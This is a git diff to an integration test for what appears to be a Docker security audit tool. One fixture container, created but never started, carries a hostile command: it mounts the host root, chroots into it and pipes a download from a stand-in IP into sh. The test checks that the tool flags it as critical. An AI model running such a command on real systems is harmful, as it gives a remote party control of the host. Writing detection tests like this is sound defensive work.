@@ -10,7 +10,7 @@ import type { Finding } from '../../../src/core/report/finding.js';
 
 const lab = labFromEnv();
 const NAMES = ['pcl-audit-priv', 'pcl-audit-sock', 'pcl-audit-renamed', 'pcl-audit-root', 'pcl-audit-capall',
-  'pcl-audit-pidhost', 'pcl-audit-restart', 'pcl-audit-port', 'pcl-audit-labdir', 'pcl-audit-plain'];
+  'pcl-audit-pidhost', 'pcl-audit-restart', 'pcl-audit-port', 'pcl-audit-labdir', 'pcl-audit-plain', 'pcl-audit-campaign'];
 const BASE = ['--label', 'portcullis.test=audit'];
 let exposure: Exposure;
 let result: AuditResult;
@@ -48,6 +48,9 @@ beforeAll(async () => {
   create('pcl-audit-port', ['-p', '0.0.0.0:18080:80']);
   create('pcl-audit-labdir', ['--network', 'none', '-v', `${lab.dir}:/lab:ro`]);
   create('pcl-audit-plain', ['--network', 'none', '--memory', '64m', '--pids-limit', '64', '--cpu-shares', '512']);
+  // The campaign's shape, created and never started: host root at /mnt, chroot, a download piped into sh.
+  docker(lab, ['create', '--name', 'pcl-audit-campaign', ...BASE, '--network', 'none', '-v', '/:/mnt', 'alpine:latest',
+    'chroot', '/mnt', 'sh', '-c', 'curl -s http://198.51.100.9/x.sh | sh']);
   exposure = await expose('plain', lab.socketPath, '127.0.0.1');
   result = await runAudit({ dockerHost: `tcp://127.0.0.1:${exposure.port}`, env: {} });
 });
@@ -96,6 +99,12 @@ describe('portcullis audit against the lab engine on a loopback TCP port', () =>
     expect(port?.evidence[0]?.location).toBe('HostConfig.PortBindings["80/tcp"][0].HostIp');
   });
 
+  it('flags the campaign\'s tactics in a stopped container (core detection rules)', () => {
+    const ttp = of('pcl-audit-campaign').filter((f) => f.ruleId.startsWith('PCL-TTP'));
+    expect(ttp.map((f) => f.ruleId).sort()).toEqual(['PCL-TTP-001', 'PCL-TTP-002']);
+    expect(ttp.every((f) => f.severity === 'critical' && /\(created\)$/.test(f.message))).toBe(true);
+  });
+
   it('does not invent risks for a container with limits and no host access', () => {
     const risky = of('pcl-audit-plain').filter((f) => ['critical', 'high'].includes(f.severity));
     expect(risky).toEqual([]);
@@ -107,8 +116,11 @@ describe('portcullis audit against the lab engine on a loopback TCP port', () =>
     expect(result.report.findings.find((f) => f.ruleId === 'PCL-DMN-001')?.evidence.some((e) => e.location === 'GET /info Plugins.Authorization')).toBe(true);
   });
 
-  it('sees the lab dockerd on this host and its unix socket (live process table)', () => {
+  it('sees the lab dockerd on this host, its unix socket and its flags (live process table)', () => {
     const proc = result.facts.processes?.find((p) => p.argv.includes(lab.dockerHost));
     expect(proc?.argv[0]).toMatch(/dockerd$/);
+    // The engine's /info (DockerRootDir) ties it to the lab dockerd by --data-root, so its flags judge that engine.
+    const ipt = result.report.findings.find((f) => f.ruleId === 'PCL-DMN-015' && f.target === `engine tcp://127.0.0.1:${exposure.port}`);
+    expect(ipt?.evidence[0]).toEqual({ kind: 'process', location: `pid ${proc?.pid} (/proc/${proc?.pid}/cmdline)`, value: '--iptables=false' });
   });
 });
